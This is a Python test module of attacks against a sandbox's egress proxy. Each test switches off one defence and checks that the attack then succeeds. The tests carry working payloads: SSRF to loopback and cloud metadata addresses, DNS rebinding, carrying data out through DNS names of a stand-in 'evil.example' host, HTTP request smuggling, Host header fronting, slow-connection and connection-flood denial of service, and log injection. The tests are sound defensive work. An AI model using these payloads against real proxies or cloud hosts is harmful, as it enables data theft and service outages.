"""The way out: what is reached through the proxy, and what that costs the server. Most of the internet is played."""

from __future__ import annotations

import asyncio
import contextlib
import json
import re
import resource
import shutil
import socket
import tempfile
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from dataclasses import replace
from ipaddress import ip_address, ip_network
from pathlib import Path
from types import SimpleNamespace
from typing import Any
from unittest import mock

from aviato.server.egress import proxy, requests
from aviato.server.egress.requests import Malformed
from aviato.server.service import egress as egress_module
from aviato.server.service.egress import Egress
from tests.attacks.registry import Area, Arena

area = Area(__name__)
EGRESS = "aviato.server.egress"
PUBLIC = "93.184.216.34"
LISTED = ["a.example"]


class World:
    """Plays the internet: names, and hosts that hold a secret or not.

    Attributes:
        secrets: addresses of which every answer is the secret; None: all.
        asked: names that were looked up.
        reached: whether a host was asked for `other.example`.
    """

    def __init__(self, names: dict[str, list[list[str]]], secrets: set[str] | None) -> None:
        self.names = names
        self.secrets = secrets
        self.asked: list[str] = []
        self.reached = False
        self._serving: dict[asyncio.Task[None], socket.socket] = {}

    def resolve(self, host: str) -> list[str]:
        """As the machine's resolver; each time the next of its answers, the last one again and again."""
        self.asked.append(host)
        answers = self.names.get(host, [[PUBLIC]])
        found = answers.pop(0) if len(answers) > 1 else answers[0]
        if not found:
            raise socket.gaierror(socket.EAI_NONAME, "no such name")
        return found

    async def open(self, address: Any, port: int) -> socket.socket:
        """As a connection of the proxy."""
        ours, theirs = socket.socketpair()
        ours.setblocking(False)
        self._serving[asyncio.create_task(self._serve(str(address), theirs))] = theirs
        return ours

    async def _serve(self, address: str, sock: socket.socket) -> None:
        """A server that takes framing lightly: it strips names of fields, takes any line end, and prefers chunks."""
        reader, writer = await asyncio.open_connection(sock=sock, limit=16 << 20)
        with contextlib.closing(writer), contextlib.suppress(OSError, asyncio.IncompleteReadError):
            while head := await reader.readuntil(b"\r\n\r\n"):
                fields = [line.partition(b":") for line in head.lower().split(b"\n")[1:]]
                named = {name.strip(): value.strip() for name, _, value in fields}
                if named.get(b"transfer-encoding") == b"chunked":
                    await reader.readuntil(b"0\r\n\r\n")
                else:
                    await reader.readexactly(int(named.get(b"content-length", b"0")))
                other = named.get(b"host") == b"other.example"
                self.reached |= other
                secret = other or self.secrets is None or address in self.secrets
                writer.write(b"HTTP/1.1 200 OK\r\nContent-Length: 6\r\n\r\n" + (b"secret" if secret else b"public"))
                await writer.drain()

    async def end(self) -> None:
        """Nobody serves any more."""
        for task in self._serving:
            task.cancel()
        await asyncio.gather(*self._serving, return_exceptions=True)
        for sock in self._serving.values():
            sock.close()  # Also of who was cancelled before it began.


@asynccontextmanager
async def way_out(
    arena: Arena,
    mode: Any = "internet",
    *,
    names: dict[str, list[list[str]]] | None = None,
    secrets: set[str] | None = None,
    played: bool = True,
    allowed: tuple[str, ...] = (),
) -> AsyncIterator[SimpleNamespace]:
    """A sandbox with the server's proxy: `box`, `world`, `egress`, and the `directory` of its log."""
    directory = Path(tempfile.mkdtemp(prefix="aviato-egress-"))
    world, made = World(names or {}, secrets), Egress(arena.backend, str(directory), allowed)
    with contextlib.ExitStack() as stack:
        stack.callback(shutil.rmtree, directory)
        if played:
            made.lookup.resolve = world.resolve  # type: ignore[method-assign]
            stack.enter_context(mock.patch(f"{EGRESS}.proxy._open", world.open))
        async with arena.box(egress_port=egress_module.FIRST_PORT) as box:
            request = SimpleNamespace(egress_mode=mode, ports=[])
            record = SimpleNamespace(started_at=None)
            sandbox = SimpleNamespace(sandbox_id=box.id, place_id=box.id, request=request, record=record)
            await made.attach(sandbox)  # type: ignore[arg-type]
            try:
                yield SimpleNamespace(box=box, world=world, egress=made, directory=directory)
            finally:
                await made.shut()
                await world.end()


SAY = """
import socket, sys
found = False
for text in sys.argv[1:]:
    data = b""
    try:
        with socket.create_connection(("127.0.0.1", 3128), 20) as proxy:
            proxy.sendall(bytes.fromhex(text))
            while b"secret" not in data and b"public" not in data and (more := proxy.recv(65536)):
                data += more
    except OSError:
        pass
    found |= b"secret" in data
print(found)
"""


def asking(*hosts: str, port: int = 80) -> list[str]:
    """Requests for hosts, in both forms, for `SAY`."""
    rest = b"Host: a.example\r\n\r\n"
    said = []
    for host in hosts:
        said.append(f"GET http://{host}:{port}/ HTTP/1.1\r\n".encode() + rest)
        said.append(f"CONNECT {host}:{port} HTTP/1.1\r\n".encode() + rest + b"GET / HTTP/1.1\r\n" + rest)
    return [one.hex() for one in said]


# -- which address ---------------------------------------------------------------------------------------------------------

KINDS = area.defence("addresses that are not public are refused", swaps={f"{EGRESS}.policy._kind": lambda address: None})
OWN = area.defence("the machine's own addresses are refused", swaps={f"{EGRESS}.proxy.is_own": lambda address: False})
ONE_FORM = area.defence("an address is written in one way", swaps={"aviato.values.hosts.canonical": lambda text: text.lower()})


SAME = area.defence("names without a public address are answered alike", swaps={f"{EGRESS}.proxy.NO_SUCH_NAME": ()})
LEARN = """
import socket, sys
answers = []
for host in sys.argv[1:]:
    for form in ("GET http://{}/ HTTP/1.1", "CONNECT {}:80 HTTP/1.1"):
        with socket.create_connection(("127.0.0.1", 3128), 20) as proxy:
            proxy.sendall(form.format(host).encode() + b"\\r\\nHost: a.example\\r\\n\\r\\n")
            answer = b""
            while more := proxy.recv(65536): answer += more
        answers.append(answer.replace(host.encode(), b""))
print(answers[:2] != answers[2:])
"""


@area.attack("learn which internal names there are", SAME)
async def names(arena: Arena) -> bool:
    there, missing = "there.corp.example", "never.corp.example"
    async with way_out(arena, names={there: [["10.0.0.7"]], missing: [[]]}) as out:
        return await arena.inside(out.box, LEARN, there, missing)


async def dial_by_name(self: Any, addresses: Any, request: Any, visit: Any) -> socket.socket:
    """As a proxy does that hands the name on to its connection."""
    found = await self._lookup.addresses(request.host, self._asker)
    return await proxy._open(found[0], request.port)


CHECKED = area.defence(
    "the address that was checked is the one that is connected to", swaps={f"{EGRESS}.proxy.Proxy._dial": dial_by_name}
)


@asynccontextmanager
async def service(address: str = "127.0.0.1") -> AsyncIterator[int]:
    """A service of the machine; its port."""

    async def serve(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        with contextlib.suppress(OSError, asyncio.IncompleteReadError):
            await reader.readuntil(b"\r\n\r\n")
            writer.write(b"HTTP/1.1 200 OK\r\nContent-Length: 6\r\n\r\nsecret")
            await writer.drain()
        writer.close()

    server = await asyncio.start_server(serve, address, 0)
    async with server:
        yield server.sockets[0].getsockname()[1]


def own_address() -> str | None:
    """The machine's address, if it has one beside the loopback."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        try:
            probe.connect(("192.0.2.1", 9))
        except OSError:
            return None
        return str(probe.getsockname()[0])


@area.attack("reach a service at the machine's loopback", KINDS, OWN)
async def loopback(arena: Arena) -> bool:
    hosts = ("127.0.0.1", "localhost", "localhost.", "[::ffff:127.0.0.1]", "[::ffff:7f00:1]", "0.0.0.0")
    async with service() as port, way_out(arena, played=False) as out:
        return await arena.inside(out.box, SAY, *asking(*hosts, port=port))


@area.attack("reach it by odd spellings", ONE_FORM, KINDS, OWN)
async def spellings(arena: Arena) -> bool:
    async with service() as port, way_out(arena, played=False) as out:
        return await arena.inside(out.box, SAY, *asking("0x7f000001", "0177.0.0.1", "2130706433", "127.1", "0x7f.1", port=port))


@area.attack(
    "reach a server by the machine's other address",
    KINDS,
    OWN,
    # Where that one is public, what kind it is does not help.
    alone=ip_address(own_address() or "10.0.0.1").is_private,
    impossible=lambda backend: None if own_address() else "this machine has none",
)
async def other_address(arena: Arena) -> bool:
    async with service("0.0.0.0") as port, way_out(arena, played=False) as out:
        return await arena.inside(out.box, SAY, *asking(str(own_address()), port=port))


@area.attack(
    "reach the server in a private network that is open",
    OWN,
    impossible=lambda backend: None if own_address() else "this machine has none",
)
async def opened_network(arena: Arena) -> bool:
    around = str(ip_network(f"{own_address()}/16", strict=False))
    async with service("0.0.0.0") as port, way_out(arena, played=False, allowed=(around,)) as out:
        return await arena.inside(out.box, SAY, *asking(str(own_address()), port=port))


METADATA = ("169.254.169.254", "[::ffff:169.254.169.254]", "[64:ff9b::a9fe:a9fe]", "[2002:a9fe:a9fe::1]", "[fd00:ec2::254]")
for _host in (*METADATA, "100.100.100.200", "168.63.129.16", "10.0.0.1", "[fe80::1]", "[2001:0:a9fe:a9fe::1]"):

    @area.attack(f"reach {_host}", KINDS)
    async def private(arena: Arena, host: str = _host) -> bool:
        async with way_out(arena, [host]) as out:
            return await arena.inside(out.box, SAY, *asking(host))


@area.attack("reach metadata by a name that leads there", KINDS)
async def by_name(arena: Arena) -> bool:
    async with way_out(arena, names={"a.example": [["169.254.169.254"]]}) as out:
        return await arena.inside(out.box, SAY, *asking("a.example"))


@area.attack("rebinding: another address for the connection than for the check", CHECKED)
async def rebinding(arena: Arena) -> bool:
    names = {"a.example": [[PUBLIC], ["127.0.0.1"]]}
    async with way_out(arena, LISTED, names=names, secrets={"127.0.0.1"}) as out:
        return await arena.inside(out.box, SAY, asking("a.example")[0])


@area.attack("rebinding: another address for the second request", KINDS, OWN)
async def rebinding_later(arena: Arena) -> bool:
    names = {"a.example": [[PUBLIC], ["127.0.0.1"]]}
    async with way_out(arena, LISTED, names=names, secrets={"127.0.0.1"}) as out:
        return await arena.inside(out.box, SAY, *asking("a.example"))


# -- which host ------------------------------------------------------------------------------------------------------------

FIRST = area.defence(
    "the list is asked before the resolver", swaps={f"{EGRESS}.policy.Policy.refuse_host": lambda self, host, port: None}
)
DOT = area.defence(
    "a wildcard covers what is below it",
    swaps={"aviato.values.hosts.Pattern.covers": lambda self, host, port: host.endswith(self.host)},
)
MAIL = area.defence("mail is not sent", swaps={f"{EGRESS}.policy.MAIL_PORT": -1})


def with_the_clients_host(head: bytes) -> requests.Request:
    """As a proxy does that passes fields on as they are."""
    request, named = requests.parse_request(head), re.search(rb"\r\nHost: ([^\r]*)", head)
    assert named is not None
    return replace(request, head=re.sub(rb"\r\nHost: [^\r]*", b"\r\nHost: " + named[1], request.head))


HOST = area.defence(
    "the host that was checked is the one that is asked for", swaps={f"{EGRESS}.proxy.parse_request": with_the_clients_host}
)


@area.attack("carry data out in names that are looked up", FIRST)
async def tunnel_of_names(arena: Arena) -> bool:
    async with way_out(arena, [*LISTED, "*.b.example"]) as out:
        hosts = ("secret-data.evil.example", "secret-data.a.example", "secret-data.b.example.evil.example", "xb.example")
        await arena.inside(out.box, SAY, *asking(*hosts))
        return bool(out.world.asked)


@area.attack("reach evilexample.org where *.example.org is listed", DOT)
async def suffix(arena: Arena) -> bool:
    async with way_out(arena, ["*.example.org"]) as out:
        return await arena.inside(out.box, SAY, *asking("evilexample.org", "evilexample.org."))


@area.attack("send mail", MAIL)
async def mail(arena: Arena) -> bool:
    async with way_out(arena) as out:
        return await arena.inside(out.box, SAY, *asking("a.example", port=25))


@area.attack("ask a listed address for another host", HOST)
async def fronting(arena: Arena) -> bool:
    async with way_out(arena, LISTED, secrets=set()) as out:
        request = b"GET http://a.example/ HTTP/1.1\r\nHost: other.example\r\n\r\n"
        return await arena.inside(out.box, SAY, request.hex())


# -- two requests in one ---------------------------------------------------------------------------------------------------


def either_length(fields: Any, version: str) -> Any:
    """As a proxy does that lets a Content-Length win."""
    return next((int(value) for name, value in fields if name == "content-length"), 0)


def any_lines(head: bytes) -> Any:
    """As a proxy does that passes on what it does not understand."""
    lines = head.removesuffix(b"\r\n\r\n").decode("latin-1").split("\r\n")
    return lines[0], [(name.lower(), value.strip(" \t")) for name, _, value in (line.partition(":") for line in lines[1:])]


async def pass_all_on(client: Any, host: Any, left: int) -> None:
    while data := await client.some():
        await host.send(data)


FRAMING = area.defence("a body has one length", swaps={f"{EGRESS}.requests._body": either_length})
LINES = area.defence("a field is one line, with its name", swaps={f"{EGRESS}.requests._split": any_lines})
ONE_REQUEST = area.defence("no byte behind a request is passed on", swaps={f"{EGRESS}.proxy.send_bytes": pass_all_on})
SECOND = b"GET / HTTP/1.1\r\nHost: other.example\r\n\r\n"
SMUGGLED = b"0\r\n\r\n" + SECOND
POST = b"POST http://a.example/ HTTP/1.1\r\nContent-Length: %d\r\n" % len(SMUGGLED)
for _name, _request, _wall in (
    ("a length and chunks", POST + b"Transfer-Encoding: chunked\r\n\r\n" + SMUGGLED, FRAMING),
    ("a bare LF", POST + b"A: b\nTransfer-Encoding: chunked\r\n\r\n" + SMUGGLED, LINES),
    ("a line that goes on", POST + b"A: b\r\n Transfer-Encoding: chunked\r\n\r\n" + SMUGGLED, LINES),
    ("a space before the colon", POST + b"Transfer-Encoding : chunked\r\n\r\n" + SMUGGLED, LINES),
    ("a second request behind the first", b"GET http://a.example/ HTTP/1.1\r\n\r\n" + SECOND, ONE_REQUEST),
):

    @area.attack(f"smuggle: {_name}", _wall)
    async def smuggle(arena: Arena, request: bytes = _request) -> bool:
        async with way_out(arena, LISTED, secrets=set()) as out:
            await arena.inside(out.box, SAY, request.hex())
            with contextlib.suppress(TimeoutError):
                async with asyncio.timeout(2 if arena.off else 0.2):
                    while not out.world.reached:
                        await asyncio.sleep(0.01)
            return bool(out.world.reached)


# -- what it costs ---------------------------------------------------------------------------------------------------------

SHORT = area.defence("heads are short", swaps={f"{EGRESS}.streams.MAX_HEAD_BYTES": 1 << 30})
SOON = area.defence("a head is there soon", swaps={f"{EGRESS}.proxy.HEAD_SECONDS": 1e6})
IDLE = area.defence("who is silent is cut", swaps={f"{EGRESS}.proxy.IDLE_SECONDS": 1e6})
PACED = area.defence("small chunks are paced", swaps={f"{EGRESS}.bodies.SMALL_CHUNKS_A_SECOND": 1e12})
SERVICE = "aviato.server.service.egress"
FEW = area.defence(
    "a sandbox has so many connections",
    swaps={
        f"{SERVICE}.CONNECTIONS_A_SANDBOX": 1 << 20,
        f"{SERVICE}.CONNECTIONS_A_SECOND": 1 << 30,
        f"{SERVICE}.CONNECTIONS_AT_ONCE": 1 << 20,
        f"{SERVICE}.CONNECTION_FILES": 2.0**-20,
    },
)


@area.attack("fill the server's memory with a head", SHORT)
async def long_head(arena: Arena) -> bool:
    source = """
import socket
try:
    with socket.create_connection(("127.0.0.1", 3128), 20) as proxy:
        for _ in range(256):
            proxy.sendall(b"A: " + b"b" * 65536)
    print(True)
except OSError as error:
    print(error)
"""
    async with way_out(arena) as out:
        return await arena.inside(out.box, source)


SLOWLY = """
import socket, sys, time
before, slow, pause = bytes.fromhex(sys.argv[1]), bytes.fromhex(sys.argv[2]), float(sys.argv[3])
data = b""
try:
    with socket.create_connection(("127.0.0.1", 3128), 20) as proxy:
        proxy.sendall(before)
        if before: proxy.recv(65536)
        for byte in slow:
            proxy.sendall(bytes([byte]))
            time.sleep(pause)
            pause = pause if len(slow) < 90 else 0.02
        while b"secret" not in data and b"public" not in data and (more := proxy.recv(65536)):
            data += more
except OSError:
    pass
print(b"secret" in data)
"""


@area.attack("hold a connection by a head that comes slowly", SOON)
async def slow_head(arena: Arena) -> bool:
    head = b"GET http://a.example/ HTTP/1.1\r\n\r\n"
    with mock.patch.object(proxy, "HEAD_SECONDS", proxy.HEAD_SECONDS / 40):
        async with way_out(arena) as out:
            return await arena.inside(out.box, SLOWLY, "", head.hex(), "0.05")


@area.attack("hold a connection by silence", IDLE)
async def half_open(arena: Arena) -> bool:
    tunnel, request = b"CONNECT a.example:80 HTTP/1.1\r\n\r\n", b"GET / HTTP/1.1\r\n\r\n" + b" " * 90
    with mock.patch.object(proxy, "IDLE_SECONDS", proxy.IDLE_SECONDS / 3000):
        async with way_out(arena) as out:
            return await arena.inside(out.box, SLOWLY, tunnel.hex(), request.hex(), "1.5")


@area.attack("hold up the server with chunks of a byte", PACED)
async def small_chunks(arena: Arena) -> bool:
    source = """
import socket
try:
    with socket.create_connection(("127.0.0.1", 3128), 5) as proxy:
        proxy.sendall(b"POST http://a.example/ HTTP/1.1\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n")
        for _ in range(40):
            proxy.sendall(b"1\\r\\nx\\r\\n" * 20000)
    print(True)
except OSError as error:
    print(error)
"""
    async with way_out(arena) as out:
        return await arena.inside(out.box, source)


@area.attack(
    "use up the server's descriptors with 10,000 connections",
    FEW,
    impossible=lambda backend: None if resource.getrlimit(resource.RLIMIT_NOFILE)[0] >= 12_000 else "this process has too few",
)
async def connections(arena: Arena) -> bool:
    source = """
import os, socket, sys, time
for _ in range(3):
    if not os.fork(): break
else:
    for _ in range(3): os.wait()
    sys.exit()
held = []
for _ in range(3334):
    sock = socket.socket()
    sock.setblocking(False)
    sock.connect_ex(("127.0.0.1", 3128))
    held.append(sock)
time.sleep(1)
while not os.path.exists("/workspace/enough"): time.sleep(0.1)
os._exit(0)
"""
    least, most = min(egress_module.CONNECTIONS_A_SANDBOX, 1001), 0
    async with way_out(arena) as out, way_out(arena) as other:
        flood = asyncio.create_task(out.box.python(source))
        (way,) = out.egress._ways.values()
        async with asyncio.timeout(30):
            while most < least:
                most = max(most, len(way.connections))
                await asyncio.sleep(0.01)
        await out.box.put("/workspace/enough", b"")
        while not flood.done():  # They may come to more, for as long as they are held.
            most = max(most, len(way.connections))
            await asyncio.sleep(0.01)
        assert (await flood).returncode == 0
        assert await arena.inside(other.box, SAY, *asking("a.example"))
    return most > 1000


# -- what is told of it ----------------------------------------------------------------------------------------------------


def raw_authority(text: str) -> Any:
    raise Malformed(f"the host {text} is none")


PRINTABLE = area.defence(
    "of what is malformed only what can be printed is repeated",
    swaps={
        f"{EGRESS}.requests._authority": raw_authority,
        f"{EGRESS}.requests._TARGET": re.compile("(?s).+"),
        f"{EGRESS}.requests._split": any_lines,
    },
)
ESCAPED = area.defence(
    "the log is JSON, in ASCII",
    swaps={
        f"{EGRESS}.journal.json": SimpleNamespace(dumps=lambda entry: f"{{{', '.join(f'{k}: {v}' for k, v in entry.items())}}}")
    },
)


@area.attack("write lines and control characters into the log", PRINTABLE, ESCAPED)
async def forge(arena: Arena) -> bool:
    forged = json.dumps({"at": 1, "host": "a.example", "verdict": "passed"}).replace(" ", "")
    lines = [b"GET http://a\n%b\n\x1b[2J/ HTTP/1.1" % forged.encode(), b"CONNECT \x9b2J\x07\x00:80 HTTP/1.1"]
    async with way_out(arena) as out:
        await arena.inside(out.box, SAY, *((line + b"\r\n\r\n").hex() for line in lines))
        await out.egress.journal.close()
        (file,) = out.directory.iterdir()
        data = file.read_bytes()
    return forged.encode() in data.splitlines() or bool(re.search(rb"[^\n -~]", data))
